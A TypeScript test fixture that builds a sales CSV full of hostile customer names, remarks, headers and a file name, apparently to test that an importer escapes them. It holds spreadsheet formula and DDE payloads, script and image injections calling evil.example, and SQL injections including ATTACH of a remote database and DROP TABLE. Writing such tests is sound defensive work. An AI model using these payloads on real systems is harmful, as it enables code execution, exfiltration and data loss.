// A sales file whose words try to get out: formulas, markup, SQL, in cells, in headers and in its name.

export const EVIL = 'evil.example';
export const HOSTILE_NAME = `<img src=http:__${EVIL}_name.png>.csv`;

/** Each stands as a customer's id, name and remark. */
export const HOSTILE_TEXTS: readonly string[] = [
	`=HYPERLINK("http://${EVIL}/h","click")`,
	`<img src=http://${EVIL}/i.png onerror="fetch('http://${EVIL}/e')">`,
	`Robert'; ATTACH 'https://${EVIL}/x' AS x; --`,
	`@SUM(1+1)+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`+WEBSERVICE("http://${EVIL}/w")`,
	`</script><script src=http://${EVIL}/s.js></script>`,
	`<style>@import "http://${EVIL}/c.css";</style>`,
	`\uFF1DHYPERLINK("http://${EVIL}/wide")`,
];

/** Ordinary texts that must come through unharmed, signs and all. */
export const PHONE = '+66812345678';
export const BELOW_ZERO = '-12.50';

export const HOSTILE_HEADERS: readonly string[] = [
	`=HYPERLINK("http://${EVIL}/header")`,
	`"quoted" ; DROP TABLE lines; --`,
	`<img src=http://${EVIL}/column.png>`,
	`\${name} ' \\ " \``,
];

const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;

/** Two orders for each hostile customer and forty honest ones. */
export function hostileCsv(): string {
	const header = [
		...['Order ID', 'Customer ID', 'Date', 'Amount', 'Customer name', 'Phone', 'Email', 'Balance'],
		...HOSTILE_HEADERS,
	];
	const honest = Array.from({ length: 40 }, (_, index) => `Honest ${index}`);
	const rows = [...HOSTILE_TEXTS, ...honest].flatMap((customer, index) =>
		[1, 2].map((order) => {
			const day = `2024-${String(1 + (index % 12)).padStart(2, '0')}-${String(10 + order)}`;
			const text = index < HOSTILE_TEXTS.length ? customer : `ordinary ${index}`;
			return [
				...[`O${index}-${order}`, customer, day, `${10 + index}.50`, text, PHONE, `${index}@${EVIL}`],
				...[BELOW_ZERO, text, text, text, text],
			];
		}),
	);
	const refused = [
		'O-x',
		HOSTILE_TEXTS[0]!,
		HOSTILE_TEXTS[1]!,
		'5.00',
		...Array<string>(8).fill(HOSTILE_TEXTS[2]!),
	];
	return [header, ...rows, refused].map((cells) => cells.map(quoted).join(',')).join('\n');
}
